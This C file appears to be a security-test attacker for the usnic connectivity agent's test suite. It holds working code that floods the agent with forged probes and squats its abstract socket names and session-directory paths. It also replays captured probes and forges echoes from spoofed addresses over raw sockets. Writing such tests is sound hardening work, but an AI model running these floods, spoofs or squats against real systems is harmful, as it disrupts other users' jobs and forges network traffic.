/*
 * Copyright (c) 2026 The usnic BTL authors.  All rights reserved.
 *
 * An attacker of the usnic connectivity agent, for
 * test/attack/run-agent-attacks.sh.  Each subcommand prints what it did
 * and what came back; the script decides what that means.
 *
 *   flood IP PORT N          (any user) send a version-1 probe ("uCk1")
 *                            with the old job cookie of every 16-bit job
 *                            family, then N version-2 probes ("uCk2")
 *                            addressed to IP:PORT with random tags, and
 *                            count whatever answers in the next second
 *   junk IP PORT SECONDS SIZE (any user) for SECONDS, as fast as it can,
 *                            send IP:PORT version-2 probes with random
 *                            tags from its own socket: three of four
 *                            SIZE bytes long (a large size: work for a
 *                            tag), one of four 1200 bytes (within any
 *                            MTU), claiming ranks 0..3; then count
 *                            whatever answers in the next second
 *   connect PATH LOCAL_IP IP PORT
 *                            (any user) connect to the Unix socket PATH
 *                            ("@name": abstract) and ask the agent there,
 *                            in both request formats, to probe IP:PORT
 *                            from its interface LOCAL_IP
 *   squat-names NODENAME FIRST COUNT
 *                            (any user) take the abstract socket name the
 *                            old agent would use on host NODENAME for
 *                            job families FIRST .. FIRST+COUNT-1, then
 *                            wait (a process holds at most its descriptor
 *                            limit: 65536 names take several processes)
 *   squat-files NODENAME DIR (any user) make, under the session directory
 *                            base DIR, the old agent's socket path of
 *                            every job family, as a directory
 *   listen IP PORT SECONDS   count the datagrams that reach IP:PORT
 *   replay IFNAME DST_IP SPOOF_IP SPOOF_PORT COPIES BURSTS WAIT_S
 *                            (root) capture the first genuine probe to
 *                            DST_IP on IFNAME and send COPIES copies of
 *                            it, BURSTS times 1 s apart, from the forged
 *                            source SPOOF_IP:SPOOF_PORT
 *   forge-echo IFNAME PROBER_IP GUESSES SECONDS
 *                            (root) for every genuine probe PROBER_IP
 *                            sends on IFNAME, send the prober echoes as
 *                            if from the probed agent: the probe with
 *                            its type byte made "echo" (what forged an
 *                            echo in version 1) and GUESSES echoes for
 *                            guessed check ids (1, 2, ...: version 1's
 *                            sequential ids, and the real one) with
 *                            random tags
 *
 * Raw sockets only for the root subcommands: captures by AF_PACKET (both
 * directions, before netfilter, which drops the probes of the broken
 * path), forged sources by IPPROTO_RAW with our own IP and UDP headers.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define V1_MAGIC 0x75436b31u   /* "uCk1" */
#define V2_MAGIC 0x75436b32u   /* "uCk2" */
#define V2_HDR 40
#define TAG 16
#define PROBE 1
#define ECHO 2
#define FAMILIES 65536

/* ----- small helpers ----- */

/* SIGTERM/SIGINT end a waiting subcommand, which then prints its totals */
static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
    (void) sig;
    stop = 1;
}

static void put32(uint8_t *p, uint32_t v)
{
    p[0] = (uint8_t) (v >> 24);
    p[1] = (uint8_t) (v >> 16);
    p[2] = (uint8_t) (v >> 8);
    p[3] = (uint8_t) v;
}

static uint32_t get32(const uint8_t *p)
{
    return ((uint32_t) p[0] << 24) | ((uint32_t) p[1] << 16) | ((uint32_t) p[2] << 8) | p[3];
}

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double) ts.tv_sec + (double) ts.tv_nsec / 1e9;
}

static void sleep_ms(long ms)
{
    struct timespec ts = {.tv_sec = ms / 1000, .tv_nsec = (ms % 1000) * 1000000L};
    nanosleep(&ts, NULL);
}

static void random_bytes(void *p, size_t n)
{
    if (getrandom(p, n, 0) != (ssize_t) n) {
        memset(p, 0x5a, n);
    }
}

static struct sockaddr_in sin_of(const char *ip, unsigned port)
{
    struct sockaddr_in a;
    memset(&a, 0, sizeof(a));
    a.sin_family = AF_INET;
    a.sin_port = htons((uint16_t) port);
    if (1 != inet_pton(AF_INET, ip, &a.sin_addr)) {
        fprintf(stderr, "bad address %s\n", ip);
        exit(2);
    }
    return a;
}

/* The datagrams waiting on |fd| within |seconds| */
static int count_arrivals(int fd, double seconds)
{
    uint8_t buf[65536];
    int n = 0;
    double end = now_s() + seconds;
    while (!stop && now_s() < end) {
        struct pollfd p = {.fd = fd, .events = POLLIN};
        if (poll(&p, 1, 50) > 0 && recv(fd, buf, sizeof(buf), MSG_DONTWAIT) >= 0) {
            ++n;
        }
    }
    return n;
}

/* ----- probes ----- */

/* The job cookie of version 1: anyone could compute it from the job id */
static uint32_t old_cookie(uint32_t jobid)
{
    return (jobid * 2654435761u) ^ 0x75736e63u;
}

/* A version-1 probe with |cookie| (64 bytes) */
static size_t v1_probe(uint8_t *b, uint32_t cookie, uint32_t check_id)
{
    put32(b, V1_MAGIC);
    b[4] = PROBE;
    b[5] = b[6] = b[7] = 0;
    put32(b + 8, cookie);
    put32(b + 12, check_id);
    put32(b + 16, 64);
    put32(b + 20, 0);
    for (unsigned i = 24; i < 64; ++i) {
        b[i] = (uint8_t) (i * 7u);
    }
    return 64;
}

/* A version-2 datagram of |size| bytes with a random tag */
static size_t v2_forged(uint8_t *b, uint8_t type, uint64_t id, uint32_t size, uint32_t from_vpid, uint32_t from_ip,
                        uint16_t from_port, uint32_t to_ip, uint16_t to_port)
{
    put32(b, V2_MAGIC);
    b[4] = type;
    b[5] = b[6] = b[7] = 0;
    put32(b + 8, (uint32_t) (id >> 32));
    put32(b + 12, (uint32_t) id);
    put32(b + 16, size);
    put32(b + 20, 0);
    put32(b + 24, from_vpid);
    memcpy(b + 28, &from_ip, 4);
    memcpy(b + 32, &to_ip, 4);
    b[36] = (uint8_t) (from_port >> 8);
    b[37] = (uint8_t) from_port;
    b[38] = (uint8_t) (to_port >> 8);
    b[39] = (uint8_t) to_port;
    for (uint32_t i = V2_HDR; i < size - TAG; ++i) {
        b[i] = (uint8_t) (i * 7u);
    }
    random_bytes(b + size - TAG, TAG);
    return size;
}

/* ----- flood ----- */

static int cmd_flood(const char *ip, unsigned port, int n_v2)
{
    struct sockaddr_in to = sin_of(ip, port);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    int rcvbuf = 4 << 20;
    (void) setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &rcvbuf, sizeof(rcvbuf));
    uint8_t b[1500];
    int sent_v1 = 0, sent_v2 = 0;
    for (uint32_t fam = 0; fam < FAMILIES; ++fam) {
        /* an application's job id: its family in the high half, job 1 */
        size_t len = v1_probe(b, old_cookie((fam << 16) | 1u), 1 + fam % 1000);
        sent_v1 += (sendto(fd, b, len, 0, (struct sockaddr *) &to, sizeof(to)) == (ssize_t) len);
        if (0 == fam % 64) {
            sleep_ms(1); /* the agent reads 64 per pass; let most of them in */
        }
    }
    for (int i = 0; i < n_v2; ++i) {
        uint64_t id;
        random_bytes(&id, sizeof(id));
        size_t len = v2_forged(b, PROBE, id, (i % 2) ? 64 : 1252, (uint32_t) i % 4, to.sin_addr.s_addr, 9,
                               to.sin_addr.s_addr, (uint16_t) port);
        sent_v2 += (sendto(fd, b, len, 0, (struct sockaddr *) &to, sizeof(to)) == (ssize_t) len);
        if (0 == i % 16) {
            sleep_ms(1);
        }
    }
    int got = count_arrivals(fd, 1.0);
    printf("flood %s:%u: sent %d version-1 probes (the cookie of every job family) and %d version-2 probes with "
           "random tags; received %d datagrams\n", ip, port, sent_v1, sent_v2, got);
    return 0;
}

static int cmd_junk(const char *ip, unsigned port, double seconds, uint32_t size)
{
    struct sockaddr_in to = sin_of(ip, port);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    static uint8_t large[65536], small[1200];
    if (fd < 0 || size < V2_HDR + TAG || size > sizeof(large)) {
        fprintf(stderr, "junk: no socket, or size %u out of range\n", size);
        return 2;
    }
    v2_forged(large, PROBE, 1, size, 0, to.sin_addr.s_addr, 9, to.sin_addr.s_addr, (uint16_t) port);
    v2_forged(small, PROBE, 1, sizeof(small), 0, to.sin_addr.s_addr, 9, to.sin_addr.s_addr, (uint16_t) port);
    long sent_large = 0, sent_small = 0, refused = 0;
    uint64_t x;
    random_bytes(&x, sizeof(x));
    double end = now_s() + seconds;
    for (uint32_t i = 0; !stop && now_s() < end; ++i) {
        uint32_t len = (3 == i % 4) ? (uint32_t) sizeof(small) : size;
        uint8_t *b = (3 == i % 4) ? small : large;
        /* a new check id, claimed rank and tag each time (xorshift: the
         * flood should spend its time sending) */
        for (int w = 0; w < 3; ++w) {
            x ^= x << 13, x ^= x >> 7, x ^= x << 17;
            memcpy(w ? b + len - TAG + 8 * (w - 1) : b + 8, &x, 8);
        }
        put32(b + 24, i % 4);
        if (sendto(fd, b, len, 0, (struct sockaddr *) &to, sizeof(to)) == (ssize_t) len) {
            sent_large += (len == size);
            sent_small += (len != size);
        } else {
            ++refused; /* ENOBUFS and the like: the flood outruns the kernel */
        }
    }
    int got = count_arrivals(fd, 1.0);
    printf("junk %s:%u: sent %ld probes of %u bytes and %ld of 1200 bytes with random tags in %.1f s "
           "(%ld sends refused); received %d datagrams\n", ip, port, sent_large, size, sent_small, seconds, refused,
           got);
    return 0;
}

/* ----- connect ----- */

static socklen_t unix_addr(const char *path, struct sockaddr_un *sun)
{
    memset(sun, 0, sizeof(*sun));
    sun->sun_family = AF_UNIX;
    size_t n = strlen(path);
    if ('@' == path[0]) { /* abstract, as /proc/net/unix shows it */
        n = (n - 1 < sizeof(sun->sun_path) - 1) ? n - 1 : sizeof(sun->sun_path) - 1;
        memcpy(sun->sun_path + 1, path + 1, n);
        return (socklen_t) (offsetof(struct sockaddr_un, sun_path) + 1 + n);
    }
    n = (n < sizeof(sun->sun_path) - 1) ? n : sizeof(sun->sun_path) - 1;
    memcpy(sun->sun_path, path, n);
    return (socklen_t) sizeof(*sun);
}

static int cmd_connect(const char *path, const char *local_ip, const char *ip, unsigned port)
{
    struct sockaddr_un sun;
    socklen_t len = unix_addr(path, &sun);
    int fd = socket(AF_UNIX, SOCK_SEQPACKET, 0);
    if (0 != connect(fd, (struct sockaddr *) &sun, len)) {
        printf("connect %s: refused (%s)\n", path, strerror(errno));
        return 0;
    }
    uint32_t local = sin_of(local_ip, 0).sin_addr.s_addr, target = sin_of(ip, port).sin_addr.s_addr;
    /* version 1's request (magic, id, local and peer address, port, probe
     * size) and version 2's (... the rank that published the peer) */
    uint32_t v1[6] = {0x75636371u, 1, local, target, (uint32_t) port, 1472};
    uint32_t v2[6] = {0x75637132u, 2, local, target, (uint32_t) port, 0};
    ssize_t s1 = send(fd, v1, sizeof(v1), MSG_NOSIGNAL);
    ssize_t s2 = send(fd, v2, sizeof(v2), MSG_NOSIGNAL);
    uint8_t rep[64];
    struct pollfd p = {.fd = fd, .events = POLLIN};
    ssize_t r = -1;
    if (poll(&p, 1, 2000) > 0) {
        r = recv(fd, rep, sizeof(rep), 0);
    }
    if (r > 0) {
        printf("connect %s: ANSWERED (%zd bytes)\n", path, r);
    } else if (0 == r || (r < 0 && (ECONNRESET == errno || EPIPE == errno)) || s1 < 0 || s2 < 0) {
        printf("connect %s: connected, then closed by the agent\n", path);
    } else {
        printf("connect %s: connected, no answer in 2 s\n", path);
    }
    close(fd);
    return 0;
}

/* ----- squat ----- */

static int bind_abstract(const char *name)
{
    struct sockaddr_un sun;
    memset(&sun, 0, sizeof(sun));
    sun.sun_family = AF_UNIX;
    size_t n = strlen(name);
    memcpy(sun.sun_path + 1, name, n);
    int fd = socket(AF_UNIX, SOCK_SEQPACKET, 0);
    if (fd < 0) {
        return -1;
    }
    if (0 != bind(fd, (struct sockaddr *) &sun, (socklen_t) (offsetof(struct sockaddr_un, sun_path) + 1 + n)) ||
        0 != listen(fd, 1)) {
        close(fd);
        return -1;
    }
    return fd;
}

/* The old agent's abstract names on |node|, one per job family */
static int squat_abstract(const char *node, uint32_t first, uint32_t count)
{
    struct rlimit rl;
    if (0 == getrlimit(RLIMIT_NOFILE, &rl)) {
        rl.rlim_cur = rl.rlim_max;
        (void) setrlimit(RLIMIT_NOFILE, &rl);
    }
    int taken = 0;
    for (uint32_t fam = first; fam < first + count && fam < FAMILIES; ++fam) {
        char name[108];
        snprintf(name, sizeof(name), "usnic-cagent-%08x-%s", old_cookie((fam << 16) | 1u), node);
        taken += (bind_abstract(name) >= 0);
    }
    return taken;
}

/* The old agent's socket path in every job session directory ORTE would
 * make under |dir| for |node| (job family directory "jf.N", job 1): each
 * "jf.N" a link to one tree of ours whose "1/usnic-cagent.sock" is a
 * directory, which unlink() cannot remove and bind() cannot take */
static int squat_files(const char *dir, const char *node)
{
    char top[2048], tree[2048], path[2048 + 64];
    snprintf(top, sizeof(top), "%s/ompi.%s.%u", dir, node, 0u);
    snprintf(tree, sizeof(tree), "%s/usnic-squat-%s", dir, node);
    umask(0);
    snprintf(path, sizeof(path), "%s/1/usnic-cagent.sock", tree);
    if ((0 != mkdir(top, 0777) && EEXIST != errno) || (0 != mkdir(tree, 0777) && EEXIST != errno)) {
        return 0;
    }
    snprintf(path, sizeof(path), "%s/1", tree);
    (void) mkdir(path, 0777);
    snprintf(path, sizeof(path), "%s/1/usnic-cagent.sock", tree);
    (void) mkdir(path, 0777);
    int made = 0;
    for (uint32_t fam = 0; fam < FAMILIES; ++fam) {
        snprintf(path, sizeof(path), "%s/jf.%u", top, fam);
        made += (0 == symlink(tree, path));
    }
    return made;
}

static int cmd_squat_names(const char *node, uint32_t first, uint32_t count)
{
    int names = squat_abstract(node, first, count);
    printf("squat %s: holding %d abstract names (job families %u..%u)\n", node, names, first, first + count - 1);
    while (!stop) {
        pause(); /* until the script stops us */
    }
    return 0;
}

static int cmd_squat_files(const char *node, const char *dir)
{
    printf("squat %s: made %d socket paths under %s\n", node, squat_files(dir, node), dir);
    return 0;
}

/* ----- listen ----- */

static int cmd_listen(const char *ip, unsigned port, double seconds)
{
    struct sockaddr_in a = sin_of(ip, port);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (0 != bind(fd, (struct sockaddr *) &a, sizeof(a))) {
        printf("listen %s:%u: cannot bind (%s)\n", ip, port, strerror(errno));
        return 1;
    }
    printf("listen %s:%u: ready\n", ip, port);
    fflush(stdout);
    printf("listen %s:%u: received %d datagrams\n", ip, port, count_arrivals(fd, seconds));
    return 0;
}

/* ----- raw capture and forged sources ----- */

typedef struct {
    uint32_t src, dst; /* network order */
    uint16_t sport, dport;
    uint8_t data[65536];
    size_t len;
} udp_dgram_t;

/* ETH_P_ALL: a socket bound to one protocol sees only what comes in,
 * and the prober's probes go out */
static int capture_socket(const char *ifname)
{
    int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
    struct sockaddr_ll ll;
    memset(&ll, 0, sizeof(ll));
    ll.sll_family = AF_PACKET;
    ll.sll_protocol = htons(ETH_P_ALL);
    ll.sll_ifindex = (int) if_nametoindex(ifname);
    if (fd < 0 || 0 == ll.sll_ifindex || 0 != bind(fd, (struct sockaddr *) &ll, sizeof(ll))) {
        fprintf(stderr, "cannot capture on %s: %s\n", ifname, strerror(errno));
        exit(2);
    }
    return fd;
}

/* The next UDP datagram on |fd| within |seconds| whose payload is a
 * version-2 probe; false if none came */
static bool next_probe(int fd, double seconds, udp_dgram_t *d)
{
    static uint8_t pkt[70000];
    double end = now_s() + seconds;
    while (!stop && now_s() < end) {
        struct pollfd p = {.fd = fd, .events = POLLIN};
        if (poll(&p, 1, 50) <= 0) {
            continue;
        }
        struct sockaddr_ll from;
        socklen_t fl = sizeof(from);
        ssize_t n = recvfrom(fd, pkt, sizeof(pkt), 0, (struct sockaddr *) &from, &fl);
        const struct iphdr *ip = (const struct iphdr *) pkt;
        if (n < (ssize_t) sizeof(*ip) || htons(ETH_P_IP) != from.sll_protocol || 4 != ip->version ||
            IPPROTO_UDP != ip->protocol) {
            continue;
        }
        size_t ihl = (size_t) ip->ihl * 4;
        const struct udphdr *u = (const struct udphdr *) (pkt + ihl);
        if ((size_t) n < ihl + sizeof(*u) + V2_HDR + TAG) {
            continue;
        }
        const uint8_t *pay = pkt + ihl + sizeof(*u);
        size_t len = (size_t) n - ihl - sizeof(*u);
        if (V2_MAGIC != get32(pay) || PROBE != pay[4] || get32(pay + 16) != len) {
            continue;
        }
        d->src = ip->saddr;
        d->dst = ip->daddr;
        d->sport = ntohs(u->source);
        d->dport = ntohs(u->dest);
        memcpy(d->data, pay, len);
        d->len = len;
        return true;
    }
    return false;
}

/* Send |len| bytes of UDP payload from the forged |src|:|sport| */
static bool send_forged(int raw, uint32_t src, uint16_t sport, uint32_t dst, uint16_t dport, const uint8_t *pay,
                        size_t len)
{
    static uint8_t pkt[70000];
    struct iphdr *ip = (struct iphdr *) pkt;
    struct udphdr *u = (struct udphdr *) (pkt + sizeof(*ip));
    memset(pkt, 0, sizeof(*ip) + sizeof(*u));
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->saddr = src;
    ip->daddr = dst;
    ip->tot_len = htons((uint16_t) (sizeof(*ip) + sizeof(*u) + len)); /* the kernel fills the checksum */
    ip->frag_off = htons(IP_DF);
    u->source = htons(sport);
    u->dest = htons(dport);
    u->len = htons((uint16_t) (sizeof(*u) + len));
    u->check = 0; /* none: allowed for UDP over IPv4 */
    memcpy(pkt + sizeof(*ip) + sizeof(*u), pay, len);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = dst};
    size_t total = sizeof(*ip) + sizeof(*u) + len;
    return sendto(raw, pkt, total, 0, (struct sockaddr *) &to, sizeof(to)) == (ssize_t) total;
}

static int raw_socket(void)
{
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
        fprintf(stderr, "raw socket: %s\n", strerror(errno));
        exit(2);
    }
    return fd;
}

static const char *ip_str(uint32_t a, char *buf)
{
    struct in_addr in = {.s_addr = a};
    return inet_ntop(AF_INET, &in, buf, INET_ADDRSTRLEN);
}

static int cmd_replay(const char *ifname, const char *dst_ip, const char *spoof_ip, unsigned spoof_port, int copies,
                      int bursts, double wait_s)
{
    int cap = capture_socket(ifname), raw = raw_socket();
    uint32_t dst = sin_of(dst_ip, 0).sin_addr.s_addr, spoof = sin_of(spoof_ip, 0).sin_addr.s_addr;
    static udp_dgram_t d;
    double end = now_s() + wait_s;
    bool got = false;
    while (!got && now_s() < end) {
        got = next_probe(cap, end - now_s(), &d) && d.dst == dst;
    }
    char a[INET_ADDRSTRLEN], b[INET_ADDRSTRLEN];
    if (!got) {
        printf("replay: no probe to %s seen on %s in %.0f s\n", dst_ip, ifname, wait_s);
        return 1;
    }
    printf("replay: captured a genuine %zu-byte probe %s:%u -> %s:%u\n", d.len, ip_str(d.src, a), d.sport,
           ip_str(d.dst, b), d.dport);
    int sent = 0;
    for (int k = 0; k < bursts; ++k) {
        for (int i = 0; i < copies; ++i) {
            sent += send_forged(raw, spoof, (uint16_t) spoof_port, d.dst, d.dport, d.data, d.len);
        }
        if (k + 1 < bursts) {
            sleep_ms(1000);
        }
    }
    printf("replay: sent %d copies to %s:%u from the forged source %s:%u\n", sent, ip_str(d.dst, a), d.dport,
           spoof_ip, spoof_port);
    return 0;
}

static int cmd_forge_echo(const char *ifname, const char *prober_ip, int guesses, double seconds)
{
    int cap = capture_socket(ifname), raw = raw_socket();
    uint32_t prober = sin_of(prober_ip, 0).sin_addr.s_addr;
    static udp_dgram_t d;
    static uint8_t e[65536];
    int seen = 0, flipped = 0, guessed = 0;
    double end = now_s() + seconds;
    while (!stop && now_s() < end) {
        if (!next_probe(cap, end - now_s(), &d) || d.src != prober) {
            continue;
        }
        ++seen;
        /* version 1's forgery: the probe itself, its type byte made "echo" */
        memcpy(e, d.data, d.len);
        e[4] = ECHO;
        flipped += send_forged(raw, d.dst, d.dport, d.src, d.sport, e, d.len);
        /* guessed check ids (and the real one) with random tags */
        uint64_t real = ((uint64_t) get32(d.data + 8) << 32) | get32(d.data + 12);
        for (int g = 0; g <= guesses; ++g) {
            uint64_t id = (g < guesses) ? (uint64_t) g + 1 : real;
            uint32_t vpid = get32(d.data + 24);
            v2_forged(e, ECHO, id, (uint32_t) d.len, vpid, d.src, d.sport, d.dst, d.dport);
            guessed += send_forged(raw, d.dst, d.dport, d.src, d.sport, e, d.len);
        }
    }
    printf("forge-echo: %d genuine probes seen; sent %d of them back as echoes and %d echoes for guessed ids, all "
           "from the probed agent's address\n", seen, flipped, guessed);
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    struct sigaction sa;
    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = on_signal; /* no SA_RESTART: a blocked call returns */
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    if (argc >= 5 && 0 == strcmp(argv[1], "flood")) {
        return cmd_flood(argv[2], (unsigned) atoi(argv[3]), atoi(argv[4]));
    }
    if (argc >= 6 && 0 == strcmp(argv[1], "junk")) {
        return cmd_junk(argv[2], (unsigned) atoi(argv[3]), atof(argv[4]), (uint32_t) atoi(argv[5]));
    }
    if (argc >= 6 && 0 == strcmp(argv[1], "connect")) {
        return cmd_connect(argv[2], argv[3], argv[4], (unsigned) atoi(argv[5]));
    }
    if (argc >= 5 && 0 == strcmp(argv[1], "squat-names")) {
        return cmd_squat_names(argv[2], (uint32_t) atoi(argv[3]), (uint32_t) atoi(argv[4]));
    }
    if (argc >= 4 && 0 == strcmp(argv[1], "squat-files")) {
        return cmd_squat_files(argv[2], argv[3]);
    }
    if (argc >= 5 && 0 == strcmp(argv[1], "listen")) {
        return cmd_listen(argv[2], (unsigned) atoi(argv[3]), atof(argv[4]));
    }
    if (argc >= 9 && 0 == strcmp(argv[1], "replay")) {
        return cmd_replay(argv[2], argv[3], argv[4], (unsigned) atoi(argv[5]), atoi(argv[6]), atoi(argv[7]),
                          atof(argv[8]));
    }
    if (argc >= 6 && 0 == strcmp(argv[1], "forge-echo")) {
        return cmd_forge_echo(argv[2], argv[3], atoi(argv[4]), atof(argv[5]));
    }
    fprintf(stderr, "usage: see the comment atop %s\n", __FILE__);
    return 2;
}
